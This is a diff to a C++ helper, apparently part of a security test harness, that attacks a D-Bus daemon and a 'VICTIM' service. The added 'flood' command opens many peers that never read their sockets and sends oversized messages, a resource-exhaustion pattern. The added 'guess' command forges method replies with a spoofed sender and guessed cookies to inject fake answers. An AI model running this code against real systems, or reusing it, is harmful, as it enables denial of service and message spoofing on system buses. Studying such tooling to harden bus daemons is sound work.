@@ -46,16 +46,27 @@ int AnswerPing(sd_bus_message* call, void* /* data */, sd_bus_error* /* error */
     return sd_bus_reply_method_return(call, "t", secret);
 }
 
+// A new peer, which need not read what comes for it.
+sd_bus* NewPeer()
+{
+    sd_bus* bus = nullptr;
+    sd_bus_new(&bus);
+    sd_bus_set_address(bus, getenv("OHOS_BUS_ADDRESS"));
+    sd_bus_set_bus_client(bus, 1);
+    sd_bus_negotiate_fds(bus, 1);
+    const char* name = nullptr;
+    if (sd_bus_start(bus) < 0 || sd_bus_get_unique_name(bus, &name) < 0) {
+        std::abort();
+    }
+    return bus;
+}
+
 // join: becomes a new peer; what comes for the former one is never read.
 std::string Join(const Words& /* words */)
 {
-    sd_bus_new(&g_bus);
-    sd_bus_set_address(g_bus, getenv("OHOS_BUS_ADDRESS"));
-    sd_bus_set_bus_client(g_bus, 1);
-    sd_bus_negotiate_fds(g_bus, 1);
-    const char* name = nullptr;
+    g_bus = NewPeer();
     sd_bus_add_filter(g_bus, nullptr, AnswerPing, nullptr);
-    return sd_bus_start(g_bus) >= 0 && sd_bus_get_unique_name(g_bus, &name) >= 0 ? "0" : "no bus";
+    return "0";
 }
 
 // connect COUNT: how many connections are granted, of so many asked for one after the other.
@@ -157,27 +168,106 @@ std::string CallAll(const Words& words)
     return std::to_string(answered);
 }
 
-// flood MEMBER COUNT: calls whose answers are never read, Releases as large as can be.
+sd_bus_message* NewCall(sd_bus* bus, const std::string& member)
+{
+    sd_bus_message* call = nullptr;
+    sd_bus_message_new_method_call(bus, &call, VICTIM, PATH, INTERFACE, member.c_str());
+    return call;
+}
+
+int SendUnread(sd_bus* bus, sd_bus_message* message)
+{
+    uint64_t cookie = 0; // Else a call would want no answer.
+    const int error = sd_bus_send(bus, message, &cookie);
+    sd_bus_message_unref(message);
+    return std::min(error, sd_bus_flush(bus));
+}
+
+// flood MEMBER COUNT PEERS: so many calls of each of so many new peers, which never read an answer and whose sockets
+// hold no more. Releases are as large as can be.
 std::string Flood(const Words& words)
 {
     int error = 0;
-    for (int i = 0; error >= 0 && i < std::stoi(words[2]); ++i) {
-        sd_bus_message* call = nullptr;
-        const bool isPing = words[1] == "Ping";
-        sd_bus_message_new_method_call(
-            g_bus, &call, VICTIM, PATH, isPing ? "org.freedesktop.DBus.Peer" : INTERFACE, words[1].c_str());
-        if (words[1] == "Release") {
-            sd_bus_message_open_container(call, 'a', "(tu)");
-            for (int j = 0; j < 3500; ++j) {
-                sd_bus_message_append(call, "(tu)", uint64_t{Below(UINT32_MAX)}, 1);
-            }
-            sd_bus_message_close_container(call);
+    for (int i = 0; i < std::stoi(words[3]); ++i) {
+        sd_bus* const peer = NewPeer();
+        for (int j = 0; j < 4; ++j) {
+            const char* self = nullptr;
+            sd_bus_get_unique_name(peer, &self);
+            sd_bus_message* filler = nullptr;
+            sd_bus_message_new_method_call(peer, &filler, self, PATH, INTERFACE, "Fill");
+            sd_bus_message_append(filler, "s", std::string(60000, 'x').c_str());
+            sd_bus_message_set_expect_reply(filler, 0);
+            error = std::min(error, SendUnread(peer, filler));
         }
-        uint64_t cookie = 0; // Else it would want no answer.
-        error = std::min(sd_bus_send(g_bus, call, &cookie), sd_bus_flush(g_bus));
-        sd_bus_message_unref(call);
+        for (int j = 0; j < std::stoi(words[2]); ++j) {
+            sd_bus_message* const call = NewCall(peer, words[1]);
+            if (words[1] == "Ping") {
+                sd_bus_message_append(call, "t", uint64_t{0});
+            } else if (words[1] == "Release") {
+                sd_bus_message_open_container(call, 'a', "(tu)");
+                for (int k = 0; k < 3500; ++k) {
+                    sd_bus_message_append(call, "(tu)", uint64_t{Below(UINT32_MAX)}, 1);
+                }
+                sd_bus_message_close_container(call);
+            }
+            error = std::min(error, SendUnread(peer, call));
+        }
     }
     return std::to_string(error);
+}
+
+// The victim's answer to a Ping of this process's, or null.
+sd_bus_message* Ping()
+{
+    sd_bus_message* call = NewCall(g_bus, "Ping");
+    sd_bus_message* answer = nullptr;
+    sd_bus_message_append(call, "t", uint64_t{0});
+    sd_bus_call(g_bus, call, 0, nullptr, &answer);
+    sd_bus_message_unref(call);
+    while (sd_bus_process(g_bus, nullptr) > 0) { // Shows that it reads.
+    }
+    return answer;
+}
+
+// guess COUNT: a new peer asks again and again, and answers, unread, with guesses, the question whether it reads. How
+// much was sent to it all the same.
+std::string Guess(const Words& words)
+{
+    sd_bus* const peer = NewPeer();
+    for (int i = 0; i < std::stoi(words[1]); ++i) {
+        sd_bus_message* const answer = Ping();
+        uint64_t cookie = 0;
+        sd_bus_message_get_cookie(answer, &cookie); // Its question, if it has asked, had one shortly before.
+        for (int j = 0; j < 16; ++j) {
+            sd_bus_message* const call = NewCall(peer, "Ping");
+            sd_bus_message_append(call, "t", uint64_t{0});
+            SendUnread(peer, call);
+        }
+        for (int j = 0; j < 64; ++j) {
+            sd_bus_message* const asked = NewCall(peer, "Ping");
+            sd_bus_message_set_sender(asked, sd_bus_message_get_sender(answer));
+            sd_bus_message_seal(asked, cookie > 64U ? cookie - static_cast<uint64_t>(j) : 1, 0);
+            sd_bus_message* guess = nullptr;
+            sd_bus_message_new_method_return(asked, &guess);
+            sd_bus_message_append(guess, "t", g_random());
+            SendUnread(peer, guess);
+            sd_bus_message_unref(asked);
+        }
+        sd_bus_message_unref(answer);
+    }
+    const auto await = [peer] { // The daemon is through with all that this peer has sent, or is to get.
+        sd_bus_call_method(peer, "org.freedesktop.DBus", "/", "org.freedesktop.DBus", "GetId", nullptr, nullptr, "");
+    };
+    await();
+    sd_bus_message_unref(Ping()); // And now the victim is.
+    await();
+    int count = 0;
+    for (sd_bus_message* message = nullptr; sd_bus_process(peer, &message) > 0;
+         message = sd_bus_message_unref(message)) {
+        const char* sender = message != nullptr ? sd_bus_message_get_sender(message) : nullptr;
+        count += sender != nullptr && sender[0] == ':' ? 1 : 0; // Not the daemon.
+    }
+    return std::to_string(count);
 }
 
 // claim NAME: the daemon's error.
@@ -278,6 +368,6 @@ int main()
 {
     Join({});
     ServeCommands({{"join", Join}, {"connect", Connect}, {"garbage", Garbage}, {"call", CallAll}, {"flood", Flood},
-        {"claim", Claim}, {"forge", Forge}, {"answer", Answer}, {"raw", Raw}});
+        {"claim", Claim}, {"forge", Forge}, {"answer", Answer}, {"guess", Guess}, {"raw", Raw}});
     return 0;
 }
